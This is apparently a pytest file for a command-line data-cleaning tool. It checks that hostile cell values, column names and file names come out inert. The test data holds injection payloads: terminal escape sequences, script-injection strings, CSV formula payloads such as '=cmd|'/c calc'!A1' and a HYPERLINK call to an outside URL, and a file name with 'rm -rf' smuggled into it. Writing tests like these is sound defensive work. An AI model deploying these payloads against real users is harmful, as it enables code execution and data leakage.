"""Cells, names and labels of strangers: they are shown as text, and nothing of them ever acts."""

from __future__ import annotations

import html.parser
import json
import os
import re
import subprocess
import sys

import pytest
from cli_tables import FILES, cars, changed, labelled, read_csv, text, write

SEQUENCES = {
    "window title": "\x1b]0;owned\x07",
    "clear screen": "\x1b[2J\x1b[H",
    "one byte of control": "\x9b31m",
    "bell": "\x07",
    "backspaces": "good\x08\x08\x08\x08evil",
    "direction": "\u202egnp.exe\u2066",
    "line separator": "a\u2028b",
    "markup": "[red]x[/red][link=file:///etc/passwd]y",
    "script": "</script><script>alert(1)</script>",
    "attribute": "\" onload=alert(1) x='",
    "comment": "<!--<img src=x onerror=alert(1)>",
    "template": "{{7*7}}${7*7}%s%(x)s{0}",
}
KNOWN = ("--contamination", "0.05")


def assert_inert(shown: str) -> None:
    """Only characters that show themselves, and line ends."""
    for line in shown.split("\n"):
        assert line.isprintable(), ascii(line)


class Page(html.parser.HTMLParser):
    """What a browser would run or fetch."""

    def __init__(self):
        super().__init__()
        self.scripts = 0
        self.troubles = []

    def handle_starttag(self, tag, attrs):
        self.scripts += tag == "script"
        for name, value in attrs:
            fetched = name in ("src", "href", "action", "data", "srcset", "formaction")
            if name.startswith("on") or (fetched and not (value or "").startswith(("#", "data:"))):
                self.troubles.append((tag, name, value))
        if tag in ("iframe", "object", "embed", "base", "form", "img") and attrs != []:
            self.troubles.append((tag, attrs))


def page_of(path) -> Page:
    page = Page()
    page.feed(path.read_text(encoding="utf-8"))
    return page


@pytest.fixture(scope="module")
def plain_page(tmp_path_factory):
    from untaint.cli.main import main

    folder = tmp_path_factory.mktemp("plain")
    data = write(folder / "cars.csv", text(cars()))
    assert main(["clean", str(data), "-t", "price", "-o", str(folder / "o"), "-q", *KNOWN]) == 0
    return page_of(folder / "o" / "report.html")


@pytest.mark.parametrize("case", SEQUENCES)
def test_cells_and_names_do_not_act(untaint, tmp_path, plain_page, case):
    evil = SEQUENCES[case]
    rows = changed(cars(), 2, lambda i, fuel: evil if i < 8 else fuel)
    target = f"price {evil}"
    write(tmp_path / "cars.csv", text(rows, ("age", f"km{evil}", "fuel", target)))
    ran = untaint("clean", "cars.csv", "-t", target, *KNOWN)
    assert (ran.code, ran.err) == (0, "")
    assert_inert(ran.out)
    page = page_of(tmp_path / "cars-untaint" / "report.html")
    assert page.troubles == plain_page.troubles == []
    assert page.scripts == plain_page.scripts
    source = (tmp_path / "cars-untaint" / "report.html").read_text(encoding="utf-8")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", source)


@pytest.mark.parametrize("case", ["window title", "script"])
def test_labels_do_not_act(untaint, tmp_path, plain_page, case):
    evil = SEQUENCES[case]
    rows = changed(labelled(), 2, lambda _, label: evil if label == "oak" else label)
    write(tmp_path / "trees.csv", text(rows, ("w", "h", "species")))
    ran = untaint("clean", "trees.csv", "-t", "species", "--contamination", "0.1")
    assert (ran.code, ran.err) == (0, "")
    assert_inert(ran.out)
    assert page_of(tmp_path / "trees-untaint" / "report.html").scripts == plain_page.scripts


@pytest.mark.parametrize("case", ["window title", "direction", "attribute"])
def test_names_of_files_do_not_act(untaint, tmp_path, plain_page, case):
    name = f"{SEQUENCES[case]}.csv"
    write(tmp_path / name, text(cars()))
    ran = untaint("clean", name, "-t", "price", *KNOWN)
    assert (ran.code, ran.err) == (0, "")
    assert_inert(ran.out)
    (out,) = (path for path in tmp_path.iterdir() if path.is_dir())
    assert {path.name for path in out.iterdir()} == FILES
    assert page_of(out / "report.html").scripts == plain_page.scripts
    assert_inert(untaint("report", out.name).out)
    ran = untaint("fit", name, "-t", "price", "-o", f"{SEQUENCES[case]}.skops", *KNOWN)
    assert (ran.code, ran.err) == (0, "")
    assert_inert(ran.out)


@pytest.mark.parametrize(
    "case", ["window title", "one byte of control", "line separator", "markup"]
)
@pytest.mark.parametrize(
    "words",
    [
        ["clean", "{}", "-t", "price"],
        ["clean", "cars.csv", "-t", "{}"],
        ["clean", "cars.csv", "-t", "price", "--ignore", "{}"],
        ["clean", "cars.csv", "-t", "price", "--{}"],
        ["clean", "cars.csv", "-t", "price", "--encoding", "{}"],
        ["clean", "cars.csv", "-t", "price", "--contamination", "{}"],
        ["clean", "cars.csv", "-t", "price", "-o", "cars.csv/{}"],
        ["predict", "{}", "cars.csv"],
        ["report", "{}"],
        ["{}"],
    ],
)
def test_errors_do_not_act(refused, tmp_path, case, words):
    write(tmp_path / "cars.csv", text(cars()))
    refused(*[word.replace("{}", SEQUENCES[case]) for word in words])


def test_a_name_that_is_no_text_is_no_obstacle(tmp_path):
    name = os.fsdecode(b"caf\xe9.csv")
    try:
        write(tmp_path / name, text(cars()))
    except OSError:
        pytest.skip("this system knows no such names")
    program = "import sys; from untaint.cli.main import main; sys.exit(main())"
    words = [sys.executable, "-c", program, "clean", name, "-t", "price", *KNOWN]
    ran = subprocess.run(words, cwd=tmp_path, capture_output=True)
    assert (ran.returncode, ran.stderr) == (0, b"")
    assert_inert(ran.stdout.decode())


FORMULAS = [
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    '=HYPERLINK("http://x/?"&A1,"ok")',
    "\n=1+1",
    " =1+1",
    "＝1+1",
]


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula."""
    try:
        float(cell)
    except ValueError:
        return cell.strip()[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠")
    return False


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_spreadsheet_runs_nothing_of_flagged_csv(untaint, tmp_path, formula):
    rows = changed(cars(), 2, lambda i, fuel: formula if i < 4 else fuel)
    names = ("-age", "km", f"{formula} fuel", f"{formula} price")
    write(tmp_path / "cars.csv", text(rows, names))
    assert untaint("clean", "cars.csv", "-t", names[3].strip(), *KNOWN).code == 0
    flagged = read_csv(tmp_path / "cars-untaint" / "flagged.csv")
    assert len(flagged) == 3
    assert not any(runs(cell) for row in flagged for cell in (*row, *row.values()))


def test_json_is_free_of_control_characters(untaint, tmp_path):
    evil = "".join(SEQUENCES.values())
    write(tmp_path / "cars.csv", text(cars(), (evil, "km", "fuel", f"{evil} price")))
    ran = untaint("clean", "cars.csv", "-t", f"{evil} price", "--json", *KNOWN)
    assert (ran.code, ran.err) == (0, "")
    assert_inert(ran.out)
    assert ran.out.isascii()


def test_labels_are_harmless_in_predictions_as_well(untaint, tmp_path):
    rows = changed(labelled(), 2, lambda _, label: f"={label}")
    write(tmp_path / "trees.csv", text(rows, ("w", "h", "@species")))
    assert untaint("clean", "trees.csv", "-t", "@species", "-q", *KNOWN).code == 0
    ran = untaint("predict", "trees-untaint/model.skops", "trees.csv", "--probabilities")
    assert ran.code == 0
    cells = [cell for line in ran.out.splitlines() for cell in line.split(",")]
    assert not any(runs(cell) for cell in cells)


def test_the_command_in_the_report_can_be_typed_again(untaint, tmp_path):
    write(tmp_path / "a b;rm -rf x.csv", text(cars()))
    assert untaint("clean", "a b;rm -rf x.csv", "-t", "price", "-o", "out", *KNOWN).code == 0
    command = json.loads((tmp_path / "out" / "summary.json").read_text())["command"]
    assert command.startswith("untaint clean 'a b;rm -rf x.csv' -t price")
